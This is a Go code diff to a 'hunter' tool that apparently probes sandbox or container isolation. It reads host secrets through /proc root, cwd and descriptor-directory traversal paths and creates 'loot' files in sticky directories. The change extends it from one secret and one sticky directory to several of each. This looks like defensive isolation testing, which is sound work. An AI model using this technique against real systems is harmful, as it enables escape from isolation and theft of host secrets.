@@ -78,19 +78,27 @@ func (h *hunter) raid(pid int) {
 // takeFiles reads and creates files of the host through a process whose root is the host's.
 func (h *hunter) takeFiles(proc string) {
 	for _, dir := range []string{"root", "cwd/../../../../../../../../.."} {
-		h.takeSecret(proc, dir)
-		h.number++
-		file := fmt.Sprintf("%s%s%s/loot-%d-%d", proc, dir, h.sticky, h.self, h.number)
-		if fd, err := unix.Open(file, unix.O_CREAT|unix.O_EXCL|unix.O_WRONLY|unix.O_CLOEXEC, 0o600); err == nil {
-			unix.Close(fd)
-			got(loot.Write, "created through %s", name(proc)+dir)
+		h.takeSecrets(proc, dir)
+		for _, sticky := range h.sticky {
+			h.number++
+			file := fmt.Sprintf("%s%s%s/loot-%d-%d", proc, dir, sticky, h.self, h.number)
+			if fd, err := unix.Open(file, unix.O_CREAT|unix.O_EXCL|unix.O_WRONLY|unix.O_CLOEXEC, 0o600); err == nil {
+				unix.Close(fd)
+				got(loot.Write, "created through %s", name(proc)+dir)
+			}
 		}
 	}
 }
 
-// takeSecret reads the secret below a directory of a process.
-func (h *hunter) takeSecret(proc, dir string) {
-	f, err := os.Open(proc + dir + h.secret)
+// takeSecrets reads the secrets below a directory of a process.
+func (h *hunter) takeSecrets(proc, dir string) {
+	for _, secret := range h.secrets {
+		h.takeSecret(proc, dir, secret)
+	}
+}
+
+func (h *hunter) takeSecret(proc, dir, secret string) {
+	f, err := os.Open(proc + dir + secret)
 	if err != nil {
 		return
 	}
@@ -101,14 +109,14 @@ func (h *hunter) takeSecret(proc, dir string) {
 	}
 }
 
-// takeDescriptors tries to reach the secret from descriptors that are directories.
+// takeDescriptors tries to reach the secrets from descriptors that are directories.
 func (h *hunter) takeDescriptors(proc string) {
 	names, err := readNames(proc + "fd")
 	if err != nil {
 		return
 	}
 	for _, n := range names {
-		h.takeSecret(proc, "fd/"+n+"/../../../../../../../../../..")
+		h.takeSecrets(proc, "fd/"+n+"/../../../../../../../../../..")
 	}
 }
 
